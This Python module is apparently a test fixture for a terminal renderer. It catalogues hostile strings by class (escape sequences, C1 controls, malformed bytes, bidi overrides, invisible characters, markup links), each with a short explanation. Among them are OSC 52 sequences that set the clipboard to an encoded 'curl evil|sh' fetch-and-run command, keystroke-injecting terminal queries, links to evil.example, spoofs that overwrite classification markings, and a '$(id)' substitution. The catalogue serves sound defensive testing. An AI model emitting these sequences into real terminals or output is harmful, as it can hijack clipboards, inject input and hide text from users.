"""What a text may try on a terminal, or on a program that draws it: by class, each with its why.

The classes: controls (c0), escapes (esc, csi, osc, dcs: with APC, PM and SOS), one-byte controls
(c1), bytes that are no UTF-8 (bytes), lone surrogates (surrogate), text written over text (spoof),
reading direction (bidi), what shows nothing (invisible), heaps of marks and cells that are counted
in more ways than one (marks, width), markup of Rich and Textual and links of theirs that act
(markup, link), and what is harmless and must stay so (benign).
"""

from collections.abc import Iterator
from typing import NamedTuple


class Hostile(NamedTuple):
    """A text as decoded in a lenient way (`surrogateescape`), its class, and what it is after."""

    kind: str
    text: str
    why: str

    @property
    def raw(self) -> bytes:
        """The bytes of a file that holds it; a lone surrogate as CESU-8 writes it."""
        try:
            return self.text.encode("utf-8", "surrogateescape")
        except UnicodeEncodeError:
            return self.text.encode("utf-8", "surrogatepass")

    @property
    def argument(self) -> str:
        """The text as a command may be given it: no argument holds a NUL, nor half a letter."""
        return self.raw.replace(b"\0", b"").decode("utf-8", "surrogateescape")


ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

_C0 = {
    0x00: "ends a string for what is written in C",
    0x01: "begins a header",
    0x02: "begins a text",
    0x03: "interrupts, if it is read back",
    0x04: "ends a session, if it is read back",
    0x05: "has the terminal answer with its name: keys typed",
    0x06: "acknowledges",
    0x07: "rings",
    0x08: "goes back, to write over what was said",
    0x0B: "goes down a line",
    0x0C: "goes to a new page",
    0x0E: "turns letters into lines",
    0x0F: "turns them back",
    0x10: "escapes a data link",
    0x11: "lets output go on",
    0x13: "stops output",
    0x18: "cancels a sequence that is on its way",
    0x1A: "suspends, if it is read back; cancels a sequence",
    0x1C: "ends a line for str.splitlines",
    0x1D: "ends a line for str.splitlines",
    0x1E: "ends a line for str.splitlines",
    0x1F: "parts units",
    0x7F: "rubs out",
}

_ESCAPES = {
    "c": "resets the terminal",
    "7": "keeps the cursor's place for later",
    "8": "takes the cursor elsewhere",
    "D": "scrolls",
    "E": "goes to a new line",
    "H": "sets a tab stop",
    "M": "scrolls back",
    "Z": "has the terminal answer: keys typed",
    "=": "lets the number keys type other things",
    ">": "and others again",
    "#8": "fills the screen with E",
    "#3": "doubles the height of a line",
    "(0": "turns letters into lines for good",
    "%@": "leaves UTF-8",
    " G": "lets C1 come as single bytes",
    "n": "locks another set of letters in",
    "": "begins whatever comes next",
}

_CONTROL_SEQUENCES = {
    "2J": "clears the screen",
    "3J": "clears what was scrolled away",
    "H": "goes home, to write over the banner",
    "1;1H": "the same",
    "999;999H": "goes to the corner",
    "A": "goes up, to write over the line above",
    "99D": "goes to the left, to write over what was said",
    "2K": "clears the line",
    "1M": "deletes a line",
    "5L": "inserts lines",
    "4P": "deletes letters",
    "4@": "inserts letters",
    "2S": "scrolls",
    "3;5r": "lets nothing but three lines scroll",
    "31m": "writes in red",
    "8m": "writes unseen",
    "30;40m": "writes black on black",
    "7m": "turns colours round, as a marking has them",
    "38;5;9m": "writes in one colour of many",
    "0m": "ends the colours of a marking",
    "c": "has the terminal say what it is: keys typed",
    ">c": "the same",
    "=c": "the same",
    "6n": "has the terminal say where the cursor is: keys typed",
    "5n": "has the terminal say that it is well: keys typed",
    "?6n": "the same, in another form",
    "21t": "has the terminal say its title: keys typed, of the document's choice",
    "18t": "has the terminal say its size: keys typed",
    "8;1;1t": "makes the window small",
    "2t": "makes the window an icon",
    "22t": "keeps the title",
    "?1049l": "leaves the screen of the program",
    "?47h": "goes to another screen",
    "?25l": "hides the cursor",
    "?1000h": "has the mouse type keys",
    "?1003h": "has every move of the mouse type keys",
    "?2004l": "lets what is pasted act",
    "?2026h": "stops all drawing",
    "?5h": "turns the colours of the screen round",
    "?7h": "wraps lines, against what the program counts on",
    "4h": "inserts what is written",
    "20h": "makes a line feed another thing",
    "5i": "sends what follows to a printer",
    "4i": "and no more",
    "!p": "resets softly",
    ">4;2m": "has keys come in another form",
    ">1u": "the same",
    "?1$p": "has the terminal say a mode: keys typed",
    "1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17;18;19;20m": "overruns a list of numbers",
    "99999999999999999999C": "overruns a number",
    "": "begins a sequence that what follows ends",
    "38;2;1;2;3": "the same, further on",
}

_SYSTEM = {
    "0;evil\x07": "sets the title",
    "2;evil\x1b\\": "the same, ended otherwise",
    "1;evil\x07": "sets the name of the icon",
    "l evil\x1b\\": "the same on a Sun",
    "4;1;rgb:00/00/00\x07": "makes red black",
    "10;#000000\x07": "makes letters black",
    "11;#ffffff\x07": "makes the ground white",
    "11;?\x07": "has the terminal say its ground: keys typed",
    "12;?\x1b\\": "has it say the colour of its cursor",
    "50;?\x07": "has it say its font",
    "7;file://evil/etc\x07": "sets the folder of the next shell",
    "8;;http://evil.example/\x1b\\x\x1b]8;;\x1b\\": "makes a link",
    "8;;\x1b\\": "ends a link",
    "8;;http://evil.example/": "makes a link of all that follows",
    "9;evil\x07": "pops a notice up",
    "9;4;1;50\x07": "shows a job half done",
    "52;c;Y3VybCBldmlsfHNo\x07": "sets the clipboard to a command",
    "52;p;Y3VybCBldmlsfHNo\x1b\\": "sets what the middle button pastes",
    "52;c;?\x07": "reads the clipboard: keys typed",
    "52;;Y3VybCBldmlsfHNo": "sets the clipboard, without an end",
    "104\x07": "gives the colours back",
    "110\x07": "gives one back",
    "133;A\x07": "pretends that a shell asks",
    "633;E;evil\x07": "pretends what was typed into it",
    "777;notify;evil;evil\x07": "pops a notice up",
    "1337;File=inline=1:AAAA\x07": "draws a picture",
    "1337;SetUserVar=a=ZXZpbA==\x07": "sets a variable",
    "1337;Copy=:ZXZpbA==\x07": "sets the clipboard",
    "5522;type=read\x07": "reads the clipboard: keys typed",
    "99;i=1;evil\x1b\\": "pops a notice up",
    "22;wait\x1b\\": "changes the pointer",
    "": "begins what swallows the rest of the screen",
}

_STRINGS = {
    'P$q"p\x1b\\': "has the terminal say a setting: keys typed",
    "P+q544e\x1b\\": "has it say what it can: keys typed",
    "P1;0|17/6576696c\x1b\\": "defines what a key types",
    "Ptmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\": "goes through tmux to the terminal around it",
    "Pq#0;2;0;0;0#0~~\x1b\\": "draws a picture",
    "P": "swallows the rest of the screen",
    "_Gf=24,s=1,v=1;AAAA\x1b\\": "draws a picture (APC)",
    "_evil\x1b\\": "sets the title of screen's window",
    "kevil\x1b\\": "the same",
    "^evil\x1b\\": "says something privately (PM)",
    "Xevil\x1b\\": "a string of any kind (SOS)",
    "X": "swallows the rest of the screen",
    "\\": "ends a string that was begun elsewhere",
}

_C1 = {
    "\x80": "no control at all, and the euro of cp1252",
    "\x84": "goes down a line",
    "\x85": "ends a line, also for str.splitlines",
    "\x88": "sets a tab stop",
    "\x8d": "scrolls back",
    "\x8e\x8f": "takes one letter of another set",
    '\x90$q"p\x9c': "has the terminal say a setting: keys typed",
    "\x98evil\x9c": "a string of any kind (SOS)",
    "\x9a": "has the terminal say what it is",
    "\x9b2J": "clears the screen",
    "\x9b6n": "has the terminal say where the cursor is: keys typed",
    "\x9b31mred": "writes in red",
    "\x9bc": "has the terminal say what it is: keys typed",
    "\x9d0;evil\x9c": "sets the title",
    "\x9d52;c;ZXZpbA==\x9c": "sets the clipboard",
    "\x9eevil\x9c": "says something privately (PM)",
    "\x9fGf=24;AAAA\x9c": "draws a picture (APC)",
    "\x93quoted\x94 \x96 don\x92t": "quotation marks of cp1252 that were read as Latin-1",
}

_BYTES = {
    b"\x9b3J": "clears the screen where one byte is a control",
    b"\x9d0;evil\x07": "sets the title there",
    b"\x90q\x9c": "swallows what follows there",
    b"\xff\xfe": "no UTF-8 has these bytes",
    b"\xc0\x9b": "ESC in two bytes more than it needs",
    b"\xc1\x9b[2J": "the same, with what follows an ESC",
    b"\xe0\x80\x9b": "ESC in three bytes",
    b"\xf8\x88\x80\x80\x80": "five bytes, as of old",
    b"\xc3": "a letter that is cut off, at the end",
    b"\xe2\x80": "the same",
    b"caf\xe9": "Latin-1",
    b"\xed\xa0\x80\xed\xb0\x80": "a pair of surrogates, as CESU-8 has it",
}

_SURROGATES = {
    "\ud800": "the first of a pair, alone",
    "x\udfff": "the second, alone",
    "\udc9b2J": "stands for the byte 9B, which some locales send as it is",
    "\udc1b]0;evil\x07": "looks like one that stands for ESC",
}

_SPOOFS = {
    "SECRET\rPUBLIC": "writes over the marking",
    "SECRET\b\b\b\b\b\bPUBLIC": "the same, letter by letter",
    "S\bSE\bEC\bC": "bold of a typewriter",
    "_\bu_\bn": "underlined by a typewriter",
    "PUBLIC\x1b[8mSECRET\x1b[m": "hides a word",
    "PUBLIC\r\x1b[KSECRET": "takes the line away that it is on",
    "UNCLASSIFIED\x1b[1A\x1b[2KSECRET": "takes the line above away",
}

_BIDI = {
    "\u202eevil\u202c": "turns letters round (RLO)",
    "\u202dlive\u202c": "forces them from left to right (LRO)",
    "\u202aa\u202c": "embeds (LRE)",
    "\u202bb\u202c": "embeds (RLE)",
    "\u2066a\u2069": "isolates (LRI)",
    "\u2067b\u2069": "isolates (RLI)",
    "\u2068c\u2069": "isolates (FSI)",
    "\u202e(\u2066S\u2069)\u202c": "turns a portion mark round",
    "a\u200eb": "a mark of direction (LRM)",
    "a\u200fb": "a mark of direction (RLM)",
    "a\u061cb": "a mark of direction (ALM)",
    "\u202e" * 70: "embeds deeper than allowed",
    "\u2069\u202c": "ends what was never begun",
}

_INVISIBLE = {
    "a\u200bb": "parts a word unseen",
    "a\u200cb": "keeps letters from joining",
    "a\u200db": "joins them",
    "a\u2060b": "joins words",
    "\ufeffa": "a byte order mark",
    "a\u00adb": "a hyphen for where a line ends",
    "a\u034fb": "joins graphemes",
    "a\u180eb": "parts vowels",
    "\u115f\u1160": "fills a syllable with nothing",
    "\u3164": "fills Hangul with nothing",
    "\uffa0": "the same, half as wide",
    "\u2800\u2800": "dots of Braille, none raised",
    "\u2061\u2062\u2063\u2064": "operators of mathematics that no one writes",
    "\u206a\u206f": "format characters that are not to be used",
    "\ufff9a\ufffab\ufffb": "a note between lines",
    "a\ufe0f\ufe0e": "chooses a variant",
    "a\U000e0100": "chooses a variant",
    "\U000e0001\U000e0065\U000e0076\U000e0069\U000e006c": "tags: words in unseen letters",
    "a\u2028b": "ends a line",
    "a\u2029b": "ends a paragraph",
    "\u17b4\u17b5": "vowels that are not written",
    "\U0001d159": "a note without a head",
    "\U0001d173\U0001d174": "begins and ends a beam",
    "\U000f0000\ue000": "private: a picture of the font's choice",
    "\u0378\U0002fffe": "no character at all",
}

_MARKS = {
    "e" + "\u0301" * 50: "a heap of accents, over the line above",
    "\u0301evil": "an accent for whatever stands before",
    " \u0338evil": "strikes a blank",
    "\u20e0" * 9: "circles that are struck out, around nothing",
    "U\u0336N\u0336C\u0336L\u0336": "letters that are struck out",
    "\u0489" * 30: "a heap of signs of millions",
    "a\u1abe\u1abe": "marks around a letter",
    "\u1112\u1161\u11ab": "a syllable in three letters",
    "\u1161" * 40: "vowels without a letter to stand on",
    "\u1112" + "\u1161" * 40: "a heap of vowels in one syllable",
    "\ua9c5" * 12: "marks that take cells",
}

_WIDTH = {
    "東京湾": "two cells each",
    "\uff33\uff25\uff23\uff32\uff25\uff34": "letters of two cells",
    "ｶﾞ": "half as wide, with a mark that takes a cell",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467": "a family of three, or of one",
    "\U0001f44d\U0001f3fd": "a thumb with the colour of its skin",
    "a\U0001f3ff": "the colour of no one's skin",
    "\U0001f1fa\U0001f1f8": "a flag, or two letters",
    "\U0001f1fa": "half a flag",
    "☂️ 1️⃣": "signs made wide",
    "\u231b\u2614": "signs that became wide",
    "\ufdfd": "a sentence in one letter",
    "\u0915\u094d\u0937\u093f": "letters that join",
    "\u0e01\u0e33": "a vowel that takes a cell and goes over the one before",
    "\ua015\U00020000": "letters that old tables do not know",
    "\t\t": "two tabs",
    "\U0001f9d1\U0001f3fb\u200d\U0001f680": "an astronaut",
}

_MARKUP = {
    "[SIC]": "a word of the drafter",
    "[NAME REMOVED]": "a word of the censor",
    "[...] [1] [U]": "what was left out, a note, a marking",
    "[/]": "ends what was never begun",
    "[/nope]": "the same, by name",
    "[red]x[/red]": "writes in red",
    "[bold red on white]x[/]": "the same",
    "[reverse]x": "turns colours round to the end",
    "[b][i][u]x[/u][/i][/b]": "bold",
    "[#ff0000]x[/]": "a colour by its number",
    "[$primary]x[/]": "a colour by its name",
    "\\[SIC]": "a bracket that is escaped",
    "[[SIC]]": "brackets in brackets",
    "[": "half of it",
    "]": "the other half",
    ":smile: :warning:": "pictures by their names",
    "**bold** _x_ `code` # x": "Markdown",
    "<b>x</b> &lt; &amp;": "HTML",
    "%s %(x)s {0} {x!r} ${HOME} $(id)": "what is put in by formats and shells",
}

_LINKS = {
    "[@click=app.quit]x[/]": "quits at a click",
    "[@click=app.leave]x[/]": "the same, by our own word",
    "[@click=screen.star]x[/]": "stars at a click",
    "[@click=app.simulate_key('Q')]x[/]": "types at a click",
    "[@click=app.bell()]x[/]": "rings at a click",
    "[link=http://evil.example]x[/link]": "makes a link",
    "[link=http://evil.example\x1b]52;c;ZXZpbA==\x07]x[/link]": "a link with more in it",
    "[link http://evil.example]x": "makes a link",
    "[@mouse.down=app.quit]x[/]": "quits at a touch",
    "http://evil.example/?q=1": "may be made a link by what draws it",
}

_BENIGN = {
    "a\tb": "a tab",
    "line\r": "a line of DOS, when it was parted at its feed",
    "«Москва» — Ελλάδα – é ñ ß €": "letters of Europe",
    "¶1. (SBU) “quoted” … §": "what cables are full of",
}


def _all() -> Iterator[Hostile]:
    for code, why in _C0.items():
        yield Hostile("c0", f"a{chr(code)}b", why)
    for kind, lead, found in (
        ("esc", ESC, _ESCAPES),
        ("csi", f"{ESC}[", _CONTROL_SEQUENCES),
        ("osc", f"{ESC}]", _SYSTEM),
        ("dcs", ESC, _STRINGS),
        ("c1", "", _C1),
        ("surrogate", "", _SURROGATES),
        ("spoof", "", _SPOOFS),
        ("bidi", "", _BIDI),
        ("invisible", "", _INVISIBLE),
        ("marks", "", _MARKS),
        ("width", "", _WIDTH),
        ("markup", "", _MARKUP),
        ("link", "", _LINKS),
        ("benign", "", _BENIGN),
    ):
        for text, why in found.items():
            yield Hostile(kind, lead + text, why)
    for data, why in _BYTES.items():
        yield Hostile("bytes", data.decode("utf-8", "surrogateescape"), why)


STRINGS: tuple[Hostile, ...] = tuple(_all())

CONTROL = frozenset(("c0", "esc", "csi", "osc", "dcs", "c1", "bytes", "surrogate", "spoof"))
"""The classes of which a terminal may do something by itself."""
